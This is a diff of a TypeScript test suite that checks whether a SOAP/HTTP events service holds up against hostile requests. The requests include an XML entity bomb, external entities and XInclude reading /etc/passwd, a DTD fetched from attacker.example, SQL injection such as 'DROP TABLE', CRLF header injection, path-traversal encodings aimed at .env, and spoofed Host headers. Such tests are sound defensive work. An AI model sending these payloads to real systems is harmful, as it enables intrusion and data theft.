@@ -1,150 +1,163 @@
-/** Common attacks through every binding for which they make sense, each followed by a good call. */
-import type { BindingName } from '../../src/contract/bindings';
+/** Common attacks through every binding for which they make sense, a row for each kind, each followed by a good call. */
+import { brotliCompressSync, gzipSync } from 'node:zlib';
+import { faultOf } from '../../scripts/fuzz/judge';
 import { OPERATIONS } from '../../src/contract/operations';
+import type { Observation } from '../../src/ops/observations';
+import { echoService } from '../support/echo-service';
 import { BINDINGS, requestThrough } from '../support/four-bindings';
-import { httpMessage } from '../support/requests';
-import { ask, ENDPOINT, GOOD, RESULT } from './ask-hostile';
+import type { Listening } from '../support/listening';
+import { envelope, httpMessage, soapMessage, type Version, wrapper } from '../support/requests';
+import { send } from '../support/send';
+import { serveApp } from '../support/serve-app';
 
-const escaped = (value: string) => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
-const isSoap = (binding: BindingName) => binding.startsWith('soap');
+const ENDPOINT = '/WebServices/Events.asmx';
+const GOOD = { month: '5', year: '2031' };
+const RESULT = 'SelectEvents|5|2031';
+const CALL = wrapper('SelectEvents', '<month>5</month><year>2031</year>');
+const VERSIONS: readonly Version[] = ['1.1', '1.2'];
+
+const seen: Observation[] = [];
+let trusting: Listening;
+let plain: Listening;
+beforeAll(async () => {
+  const serve = (env: Record<string, string>) =>
+    serveApp(echoService(), env, (observation) => seen.push(observation), 'file');
+  plain = await serve({});
+  trusting = await serve({ TRUST_PROXY: 'loopback' });
+});
+
+let asked = 0;
+
+/**
+ * Returns the answer to a request. It must show no internals, and the next request must be answered as usual. The
+ * bindings take turns at that next request.
+ */
+async function ask(request: Buffer, address = plain) {
+  seen.length = 0;
+  const answer = await send(request, address);
+  expect(faultOf(answer, [])).toBeUndefined();
+  expect(seen.filter(({ kind }) => kind === 'unexpected-error')).toEqual([]);
+  const isCalled = seen.some(({ kind }) => kind === 'call');
+  const binding = BINDINGS[asked++ % BINDINGS.length] ?? 'soap11';
+  expect((await send(requestThrough(binding, 'SelectEvents', GOOD), address)).body).toContain(RESULT);
+  return { ...answer, isCalled };
+}
+
+const ENTITIES = Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
+const INCLUSION =
+  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
+
+describe.each<[string, prolog: string, body: string, status: number]>([
+  [
+    'a bomb of entities',
+    `<!DOCTYPE a [<!ENTITY a0 "ha">${ENTITIES.join('')}]>`,
+    CALL.replace('>5<', '>&a12;<'),
+    400,
+  ],
+  [
+    'an entity that is a file',
+    '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
+    CALL.replace('>5<', '>&f;<'),
+    400,
+  ],
+  ['a DTD from elsewhere', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">', CALL, 400],
+  ['an inclusion', '', CALL.replace('<month>', `${INCLUSION}<month>`), 200],
+  ['an inclusion for a value', '', CALL.replace('>5<', `>${INCLUSION}<`), 400],
+  ['nine thousand levels', '', '<a>'.repeat(9_000) + '</a>'.repeat(9_000) + CALL, 500],
+])('%s', (_what, prolog, body, status) => {
+  test.each(VERSIONS)('is rejected or has no effect in SOAP %s', async (version) => {
+    const answer = await ask(soapMessage(version, 'SelectEvents', prolog + envelope(version, body)));
+    expect(answer).toMatchObject({ status, isCalled: status === 200 });
+    if (status === 200) expect(answer.body).toContain(RESULT);
+  });
+});
+
+test.each([
+  ['gzip', gzipSync],
+  ['br', brotliCompressSync],
+] as const)('a body in %s is read as the bytes that it is', async (encoding, compress) => {
+  const headers = { 'Content-Encoding': encoding };
+  const form = { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' };
+  for (const request of [
+    ...VERSIONS.map((version) =>
+      soapMessage(version, 'SelectEvents', compress(envelope(version, CALL)), headers),
+    ),
+    httpMessage(`POST ${ENDPOINT}/SelectEvents HTTP/1.1`, form, compress('month=5&year=2031')),
+  ]) {
+    const { status, isCalled } = await ask(request);
+    expect([400, 500]).toContain(status);
+    expect(isCalled).toBe(false);
+  }
+});
+
+const PARAMETERS = OPERATIONS.flatMap((operation) =>
+  operation.parameters.map(({ name }) => ({ operation, parameter: name })),
+);
 
 describe.each([
   ['a quote', "5' OR '1'='1"],
   ['a second statement', '5; DROP TABLE event'],
-  ['a union', '5 UNION SELECT NULL'],
-  ['a comment', '5/**/'],
-  ['a pause', "5||pg_sleep(9)||'"],
   ['a parameter of the database', '$1'],
-  ['a cast', '5::text'],
   ['a path', '../../../../etc/passwd'],
-  ['an address', 'http://attacker.example/'],
-  ['a template', '{{7*7}}'],
-  ['a lookup', `$${'{jndi:ldap://attacker.example/a}'}`],
   ['a header', '5\r\nSet-Cookie: a=b'],
-  ['a shell', '5 | id'],
-  ['a number of another script', '٥'],
-  ['hexadecimal', '0x5'],
-  ['a thousand digits', '9'.repeat(1_000)],
 ])('%s for a number or a boolean', (_what, value) => {
-  const parameters = OPERATIONS.flatMap(({ name, parameters }) =>
-    parameters.map((parameter) => [name, parameter.name] as const),
-  );
   test.each(BINDINGS)('is refused in every parameter before the service, by %s', async (binding) => {
-    for (const [operation, parameter] of parameters) {
-      const { parameters: all } = OPERATIONS.find(({ name }) => name === operation) ?? { parameters: [] };
+    for (const { operation, parameter } of PARAMETERS) {
       const args = Object.fromEntries(
-        all.map(({ name, type }) => [name, name === parameter ? value : type === 'boolean' ? 'true' : '5']),
+        operation.parameters.map(({ name, type }) => [name, type === 'boolean' ? 'true' : '5']),
       );
-      const request = requestThrough(binding, operation, isSoap(binding) ? mapped(args, escaped) : args);
-      const { answer, isCalled } = await ask(request);
-      expect(answer.status).toBe(500);
-      expect(isCalled).toBe(false);
-      expect([...answer.headers.keys()]).not.toContain('set-cookie');
+      const answer = await ask(requestThrough(binding, operation.name, { ...args, [parameter]: value }));
+      expect(answer).toMatchObject({ status: 500, isCalled: false });
+      expect(answer.headers.has('set-cookie')).toBe(false);
     }
   });
 });
 
-function mapped(args: Record<string, string>, change: (value: string) => string): Record<string, string> {
-  return Object.fromEntries(Object.entries(args).map(([name, value]) => [name, change(value)]));
-}
-
-const PROPERTIES = [
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  'hasOwnProperty',
-  '__defineGetter__',
-];
-
-describe.each(PROPERTIES)('%s, which every object has or may be given', (name) => {
-  test.each(BINDINGS)('is a parameter like any other that is unknown, by %s', async (binding) => {
-    const { answer, text } = await ask(requestThrough(binding, 'SelectEvents', { [name]: 'x', ...GOOD }));
-    expect(answer.status).toBe(200);
-    expect(text).toContain(RESULT);
-  });
-
-  test.each(BINDINGS)('is no operation, by %s', async (binding) => {
-    const hostile = await ask(requestThrough(binding, name, GOOD));
-    const unknown = await ask(requestThrough(binding, 'Nope', GOOD));
-    expect(hostile.answer.status).toBe(500);
-    expect(hostile.text.replaceAll(name, 'Nope')).toBe(unknown.text);
-  });
+describe.each(['__proto__', 'constructor', 'toString'])('%s, which every object has', (name) => {
+  test.each(BINDINGS)(
+    'is a parameter like any other that is unknown, and no operation, by %s',
+    async (binding) => {
+      const answer = await ask(requestThrough(binding, 'SelectEvents', { [name]: 'x', ...GOOD }));
+      expect(answer.body).toContain(RESULT);
+      const hostile = await ask(requestThrough(binding, name, GOOD));
+      const unknown = await ask(requestThrough(binding, 'Nope', GOOD));
+      expect(hostile.status).toBe(500);
+      expect(hostile.body.replaceAll(name, 'Nope')).toBe(unknown.body);
+    },
+  );
 });
 
-describe('a line end in what an answer may repeat', () => {
-  test.each([
-    `${ENDPOINT}/%0d%0aSet-Cookie:%20a=b`,
-    `${ENDPOINT}/SelectEvents%0d%0aSet-Cookie:%20a=b?month=5&year=2031`,
-    `${ENDPOINT}?op=%0d%0aSet-Cookie:%20a=b`,
-    `${ENDPOINT}/SelectEvents?month=%0d%0aSet-Cookie:%20a=b&year=2031`,
-    '/%0d%0aSet-Cookie:%20a=b',
-    '/assets/%0d%0aSet-Cookie:%20a=b',
-    '/calendar%0d%0aSet-Cookie:%20a=b',
-  ])('makes no header: %s', async (target) => {
-    const { answer } = await ask(httpMessage(`GET ${target} HTTP/1.1`));
-    expect(answer.headers.has('set-cookie')).toBe(false);
-  });
+test.each([
+  `${ENDPOINT}/%0d%0aSet-Cookie:%20a=b`,
+  `${ENDPOINT}?op=%0d%0aSet-Cookie:%20a=b`,
+  `${ENDPOINT}/SelectEvents?month=%0d%0aSet-Cookie:%20a=b&year=2031`,
+  '/%0d%0aSet-Cookie:%20a=b',
+  '/assets/%0d%0aSet-Cookie:%20a=b',
+  '/calendar%0d%0aSet-Cookie:%20a=b',
+])('a line end makes no header: %s', async (target) => {
+  const { headers } = await ask(httpMessage(`GET ${target} HTTP/1.1`));
+  expect(headers.has('set-cookie')).toBe(false);
 });
 
-describe('a path out of the folder of files', () => {
-  const UP = [
-    '..',
-    '%2e%2e',
-    '.%2e',
-    '..%2f..',
-    '..%5c..',
-    '..%252f..',
-    '....//',
-    '%c0%ae%c0%ae',
-    '..;',
-    '..%00',
-  ];
-  const BASES = ['/assets', '/calendar', '/WebServices', ENDPOINT, ''];
-  test.each(BASES.flatMap((base) => UP.map((up) => `${base}/${up}`)))('%s leads nowhere', async (start) => {
-    for (const file of ['package.json', 'src/main.ts', 'etc/passwd', '.env']) {
-      const { answer, text } = await ask(httpMessage(`GET ${start}/${up(start)}${file} HTTP/1.1`));
-      expect([400, 404, 500]).toContain(answer.status);
-      expect(text).not.toMatch(/"dependencies"|createApp/);
-    }
-  });
-  const up = (start: string) => `${start.split('/').at(-1)}/`.repeat(6);
+describe.each(['/assets', '/calendar', '/WebServices', ENDPOINT, ''])('a path out of %s', (base) => {
+  test.each(['..', '%2e%2e', '..%2f..', '..%5c..', '..%252f..', '%c0%ae%c0%ae', '..%00'])(
+    'by %s leads nowhere',
+    async (up) => {
+      for (const file of ['package.json', 'src/main.ts', '.env']) {
+        const answer = await ask(httpMessage(`GET ${base}/${`${up}/`.repeat(6)}${file} HTTP/1.1`));
+        expect([400, 404, 500]).toContain(answer.status);
+        expect(answer.body).not.toMatch(/"dependencies"|createApp/);
+      }
+    },
+  );
 });
 
-describe('who the service is told that it is', () => {
-  const document = (headers: Readonly<Record<string, string>>) =>
-    httpMessage(`GET ${ENDPOINT}?WSDL HTTP/1.1`, headers);
-  const BAD_HOSTS = ['a b', 'a/b', 'a@b', 'a:x', 'a:99999', '"a"', '<a>', 'a\\b', '[::1', 'a?b', 'a#b', 'ä'];
-
-  test.each(BAD_HOSTS)('Host: %s is refused', async (host) => {
-    const { answer } = await ask(document({ Host: host }));
-    expect(answer.status).toBe(400);
-  });
-
-  test.each([
-    { 'X-Forwarded-Host': 'attacker.example' },
-    { 'X-Forwarded-Proto': 'https' },
-    { 'X-Forwarded-Prefix': '/attacker' },
-    { Forwarded: 'host=attacker.example;proto=https' },
-    { 'X-Original-URL': '/attacker', 'X-Rewrite-URL': '/attacker' },
-    { 'X-Http-Method-Override': 'DELETE' },
-  ])('%j of one who is no trusted proxy changes nothing', async (headers) => {
-    const plain = await ask(document({}));
-    const { answer, text } = await ask(document({ ...headers }));
-    expect(answer.status).toBe(200);
-    expect(text).toBe(plain.text);
-  });
-
-  test.each(BAD_HOSTS)('X-Forwarded-Host: %s of a trusted proxy is refused', async (host) => {
-    const { answer } = await ask(document({ 'X-Forwarded-Host': host }), { TRUST_PROXY: 'loopback' });
-    expect(answer.status).toBe(400);
-  });
-
-  test('with PUBLIC_URL no Host is named', async () => {
-    const { text } = await ask(document({ Host: 'attacker.example' }), {
-      PUBLIC_URL: 'https://events.example',
-    });
-    expect(text).toContain('https://events.example/WebServices/Events.asmx');
-    expect(text).not.toContain('attacker');
-  });
-});
+test.each(['a b', 'a/b', 'a@b', 'a:x', 'a:99999', '"a"', '<a>', 'a\\b', '[::1', 'a?b', 'a#b', 'ä'])(
+  '%s is no host, not even of a trusted proxy',
+  async (host) => {
+    const document = (headers: Record<string, string>) =>
+      httpMessage(`GET ${ENDPOINT}?WSDL HTTP/1.1`, headers);
+    expect((await ask(document({ Host: host }))).status).toBe(400);
+    expect((await ask(document({ 'X-Forwarded-Host': host }), trusting)).status).toBe(400);
+  },
+);
